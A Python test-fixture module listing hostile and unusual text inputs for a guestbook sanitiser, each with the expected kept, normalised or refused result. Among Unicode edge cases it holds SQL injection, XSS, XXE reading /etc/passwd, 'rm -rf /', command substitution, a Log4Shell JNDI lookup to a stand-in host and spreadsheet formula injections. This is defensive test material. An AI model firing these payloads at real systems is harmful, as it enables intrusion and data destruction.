"""166 texts that nobody's friend would write: each is kept as it is seen, or refused with a code.

The second of each is what must be kept, or the code of the refusal.
"""

from enum import StrEnum
from typing import Final

__all__ = ("HOSTILE", "Refused")


class Refused(StrEnum):
    EMPTY = "EMPTY"
    TOO_LONG = "TOO_LONG"
    CONTROL_CHARACTERS = "CONTROL_CHARACTERS"


Outcome = str | Refused

# What no eye sees and no words need: taken out of the middle of words, refused alone.
INVISIBLE: Final = (
    *(chr(code) for code in (*range(0x01, 0x09), 0x0E, 0x0F, *range(0x10, 0x20), 0x7F)),  # C0
    *(chr(code) for code in (0x80, 0x84, 0x86, 0x90, 0x98, 0x9B, 0x9C, 0x9F)),  # C1
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",  # bidi
    *"\u200b\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u180e",  # zero width
    *"\u034f\u115f\u1160\u17b4\u17b5\u3164\uffa0",  # letters that are none
    *"\U000e0001\U000e0041\U000e007f\ufff9\ufffa\ufffb",  # tags, annotations
    *"\ufdd0\ufffe\uffff\U0001fffe",  # no characters at all
)

SQL: Final = (
    "Robert'); DROP TABLE guestbook_entry;--",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM museum",
    "'; SELECT pg_sleep(30); --",
    "' UNION SELECT key_hash FROM device --",
    "\\'; --",
    "%' ESCAPE '/' --",
    "$$ ; $$ :text ?1 %(text)s {0}",
    "/*! SELECT */ 1",
)

MARKUP: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --><b>",
    "&lt;script&gt;",
    "&#x3C;script&#x3E;",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "]]><x/>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
    "<style>*{display:none}</style>",
    "[x](javascript:alert(1))",
)

MACHINES: Final = (
    "../../../../etc/passwd",
    "; rm -rf / #",
    "$(reboot) `reboot`",
    "${jndi:ldap://x.example/a}",
    "%s%s%n%x",
    "null",
    "undefined NaN 1e999",
    '{"query": "{ desk { queue { edges { cursor } } } }"}',
    '"} } { __schema { types { name } } }',
    "*)(uid=*))(|(uid=*",
    "True, None, __import__('os')",
    "FFFE data:text/html;base64,PHNjcmlwdD4=",
)

FORMULAS: Final = (
    '=HYPERLINK("http://x.example","y")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=1+1",
    "＝1+1",
    "%0A=1",
)

WORLD: Final = (
    "متحف جميل جدًا 🌙",
    "מוזיאון נפלא!",
    "رائع wonderful رائع",
    "博物館はとても静かでした。",
    "संग्रहालय बहुत सुन्दर था।",
    "می‌خواهم",  # a non-joiner that Persian needs
    "क्‍ष",  # a joiner that Hindi needs
    "👩‍🎨👍🏽🏳️‍🌈",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "1️⃣ ❤️ ☎︎",
    "𝕬𝖗𝖙 𓀀 𐍈",
    "\U0010fffd",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘".replace("\u034f", ""),
    "ﷺ ﷽",
    "Ω≈ç√∫˜µ≤≥÷",
    "١٢٣ ۴۵۶ १२३",
    "ⅷ ㎏ ﬁ",
    "\u2800braille\u2800blank",
    "a\u00a0b\u3000c",
    "İstanbul ıssız ſ ẞ",
)

COMPOSED: Final = (
    ("Cafe\u0301", "Café"),
    ("A\u030angstro\u0308m", "Ångström"),
    ("\u212b", "Å"),
    ("\u1112\u1161\u11ab", "한"),
    ("e\u0301" * 900, "é" * 900),
    ("lines\r\nof\rthree\u2028kinds\u2029and\x85more", "lines\nof\nthree\nkinds\nand\nmore"),
    ("  spaces around  \n\n", "spaces around"),
    ("\x00words", "words"),
    ("wo\x00rds", "words"),
    ("\ud800 alone", "alone"),
)

LONG: Final = (
    ("x" * 2_000, "x" * 2_000),
    ("🦁" * 2_000, "🦁" * 2_000),
    ("x" * 2_001, Refused.TOO_LONG),
    ("é" * 1_000_000, Refused.TOO_LONG),
    ("\u200b" * 300_000, Refused.TOO_LONG),
    ("\n" * 100_000, Refused.TOO_LONG),
    ("a" + "\u0301" * 1_999, "á" + "\u0301" * 1_998),
)

NOTHING: Final = (
    ("", Refused.EMPTY),
    (" \t\n\u00a0\u3000\u2003", Refused.EMPTY),
    ("\u2028\u2029\x85\r\n", Refused.EMPTY),
    ("\u2800\u2800", Refused.EMPTY),
    ("\x00", Refused.CONTROL_CHARACTERS),
    ("\u202e\u200b\x00\x07", Refused.CONTROL_CHARACTERS),
    ("\udfff\ud800", Refused.CONTROL_CHARACTERS),
    ("\u200d\u200c\u200d", Refused.CONTROL_CHARACTERS),
    ("\U000e0041\U000e0042", Refused.CONTROL_CHARACTERS),
    ("\ufe0f\ufe0f", Refused.CONTROL_CHARACTERS),
)

HOSTILE: Final[tuple[tuple[str, Outcome], ...]] = (
    *((f"wo{hidden}rds", "words") for hidden in INVISIBLE),
    *((text, text) for text in (*SQL, *MARKUP, *MACHINES, *FORMULAS, *WORLD)),
    *COMPOSED,
    *LONG,
    *NOTHING,
)
